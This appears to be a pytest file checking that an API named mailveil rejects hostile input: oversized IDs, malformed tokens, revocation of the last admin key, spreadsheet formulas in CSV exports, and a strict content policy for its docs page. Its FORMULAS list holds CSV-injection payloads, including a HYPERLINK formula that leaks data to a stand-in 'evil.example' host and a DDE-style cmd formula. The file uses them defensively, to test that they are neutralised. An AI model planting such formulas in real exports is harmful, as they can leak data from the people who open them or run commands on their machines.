"""Hostile input at the API's edge (issue 12): out-of-range integers, bad credentials, the last
admin key, spreadsheet formulas in exports, the document's promises (limit=1000, 405 Allow)
and /docs served without a CDN."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from api_testkit import Api
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from mailveil.auth.keys import Role, issue_key

HUGE = "99999999999999999999999"  # above 2^63: the driver used to overflow (500)
PARAM = re.compile(r"\{(\w+)\}")


def _integer_path_operations(client: TestClient) -> list[tuple[str, str]]:
    """Every (method, path) whose path holds an integer parameter, from the OpenAPI doc."""
    doc = client.get("/openapi.json").json()
    found = []
    for path, item in doc["paths"].items():
        for method, op in item.items():
            ints = [
                p["name"]
                for p in op.get("parameters", [])
                if p["in"] == "path" and p["schema"].get("type") == "integer"
            ]
            if ints:
                found.append((method, path))
    return found


def test_every_integer_in_a_path_is_bounded(admin: Api, client: TestClient) -> None:
    operations = _integer_path_operations(client)
    assert len(operations) >= 15  # the issue counted 15 path endpoints
    for method, path in operations:
        url = PARAM.sub(HUGE, path)
        kw: dict[str, Any] = {"json": {}} if method in ("post", "patch", "put") else {}
        response = getattr(admin, method)(url, **kw)
        assert response.status_code in (403, 404, 422), (method, path, response.text)
        assert response.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize(
    ("url", "params"),
    [
        ("/v1/customers/" + HUGE, {}),
        ("/v1/principals/" + HUGE, {}),
        ("/v1/incidents/" + HUGE, {}),
        ("/v1/reveals/" + HUGE, {}),
        ("/v1/principals", {"after": HUGE}),
        ("/v1/relationships", {"type": "order", "after": HUGE}),
        ("/v1/relationships", {"type": "case", "customer_id": HUGE}),
        ("/v1/incidents", {"after": HUGE}),
        ("/v1/reveals", {"after": HUGE}),
        ("/v1/reports", {"customer_id": HUGE}),
    ],
)
def test_out_of_range_ids_answer_422_before_any_query(
    admin: Api, url: str, params: dict[str, str]
) -> None:
    response = admin.get(url, params=params)
    assert response.status_code == 422, response.text
    problem = response.json()
    assert problem["type"] == "urn:mailveil:problem:invalid-input"
    assert HUGE not in str(problem["errors"])  # the input is not echoed


def test_out_of_range_ids_in_bodies_answer_422(admin: Api) -> None:
    cust = admin.customer("c-1", "rita.range@example.com")
    seller = admin.principal("seller", "s-1")
    bodies = [
        ("post", "/v1/relationships", {"type": "case", "external_id": "k", "customer_id": 2**64}),
        (
            "post",
            "/v1/relationships",
            {"type": "order", "external_id": "o", "customer_id": cust["id"], "seller_id": 2**63},
        ),
        ("post", "/v1/disclosures", {"customer_id": 2**70, "principal_id": seller["id"]}),
        ("post", "/v1/api-keys", {"role": "backend", "principal_id": 2**64}),
    ]
    for method, url, body in bodies:
        response = getattr(admin, method)(url, json=body)
        assert response.status_code == 422, (url, response.text)
    case = admin.case("case-1", cust["id"], None)
    response = admin.patch(f"/v1/relationships/cases/{case['id']}", json={"assignee_id": 2**64})
    assert response.status_code == 422, response.text


# -- keys -----------------------------------------------------------------------------------


def test_every_bad_credential_gets_the_same_401(
    client: TestClient, admin: Api, session_factory: sessionmaker[Session]
) -> None:
    key_id = admin.token.split("_")[1]
    tokens = [
        f"mvk_{key_id}_sécret-ünïcode",  # a real key id, a non-ASCII secret: was 500
        f"mvk_{key_id}_{'x' * 43}",  # a real key id, a wrong secret
        f"mvk_nosuchkey234_{'x' * 43}",  # an unknown key id
        "mvk_ключ_секрет",  # non-ASCII everywhere
        "not-a-key-at-all",
        f"mvk_{key_id}",  # malformed
    ]
    bodies = set()
    for token in tokens:
        response = client.get("/v1/api-keys", headers={"Authorization": f"Bearer {token}".encode()})
        assert response.status_code == 401, (token, response.text)
        assert response.headers["www-authenticate"] == "Bearer"
        body = response.json()
        bodies.add((body["type"], body["detail"]))
    assert len(bodies) == 1  # nothing tells an existing key id from an unknown one
    # The raw header can also carry bytes that are not ASCII at all.
    raw = client.get("/v1/api-keys", headers={"Authorization": b"Bearer mvk_" + b"\xff" * 8})
    assert raw.status_code == 401


def test_the_last_active_admin_key_cannot_be_revoked(admin: Api) -> None:
    listed = admin.ok("get", "/v1/api-keys")
    own = admin.token.split("_")[1]
    assert [k["key_id"] for k in listed if k["role"] == "admin" and not k["revoked"]] == [own]
    refused = admin.delete(f"/v1/api-keys/{own}")
    assert refused.status_code == 409, refused.text
    problem = refused.json()
    assert problem["type"] == "urn:mailveil:problem:last-admin-key"
    assert "mailveil api-keys create --role admin" in problem["detail"]
    # The key still works; with a second admin key the first can go.
    second = admin.key_for("admin")
    assert admin.ok("delete", f"/v1/api-keys/{own}")["revoked"] is True
    assert admin.get("/v1/api-keys").status_code == 401
    assert second.delete(f"/v1/api-keys/{second.token.split('_')[1]}").status_code == 409


def test_revoked_admin_keys_do_not_count(
    admin: Api, session_factory: sessionmaker[Session]
) -> None:
    with session_factory() as sess:
        spare = issue_key(sess, Role.ADMIN, label="spare").key.key_id
        sess.commit()
    assert admin.delete(f"/v1/api-keys/{spare}").status_code == 200
    assert admin.delete(f"/v1/api-keys/{admin.token.split('_')[1]}").status_code == 409


# -- CSV ------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak")', "-2+3", "+1", "=cmd|x!A0"]


def test_export_neutralises_formula_cells(admin: Api) -> None:
    employee = admin.principal("employee", "e-sheet", attributes={"team": "t", "role": "agent"})
    key = admin.key_for("employee", employee["id"])
    for n, ext in enumerate(FORMULAS):
        cust = admin.customer(ext, f"sheet{n}@example.com")
        admin.case(f"case-{n}", cust["id"], employee["id"])
    response = key.get("/v1/customers/export")
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert sorted(r["external_id"] for r in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


# -- the document's promises ------------------------------------------------------------------


def test_limit_1000_is_accepted_as_documented(admin: Api) -> None:
    for url in ("/v1/customers", "/v1/principals", "/v1/incidents", "/v1/reveals"):
        response = admin.get(url, params={"limit": 1000})
        assert response.status_code == 200, (url, response.text)
    assert admin.get("/v1/customers", params={"limit": 1001}).status_code == 422


def test_405_names_the_allowed_methods(admin: Api) -> None:
    response = admin.client.put("/v1/customers", headers=admin.headers)
    assert response.status_code == 405
    assert response.headers["content-type"] == "application/problem+json"
    assert set(response.headers["allow"].replace(" ", "").split(",")) == {"GET", "POST"}


def test_every_operation_declares_its_problem_answers(client: TestClient) -> None:
    doc = client.get("/openapi.json").json()
    for path, item in doc["paths"].items():
        for method, op in item.items():
            responses = op["responses"]
            for status in ("404", "422", "503"):
                assert "application/problem+json" in responses[status]["content"], (path, method)
            if op.get("security"):
                assert {"401", "403"} <= set(responses), (path, method)
    assert "HTTPValidationError" not in doc["components"]["schemas"]


# -- /docs ----------------------------------------------------------------------------------


def test_docs_are_served_from_the_package_under_a_strict_policy(client: TestClient) -> None:
    page = client.get("/docs")
    assert page.status_code == 200
    csp = page.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "script-src 'self'" in csp
    assert "unsafe-inline" not in csp
    scripts = re.findall(r'<script[^>]*src="([^"]+)"', page.text)
    styles = re.findall(r'<link[^>]*href="([^"]+)"', page.text)
    assert scripts and styles
    assert "<script>" not in page.text  # no inline script
    for url in scripts + styles:
        assert url.startswith("/"), url  # nothing from a CDN
        asset = client.get(url)
        assert asset.status_code == 200 and len(asset.content) > 100, url
        assert asset.headers["content-security-policy"] == csp
    assert "SwaggerUIBundle" in client.get(scripts[0]).text
    assert client.get("/redoc").status_code == 404
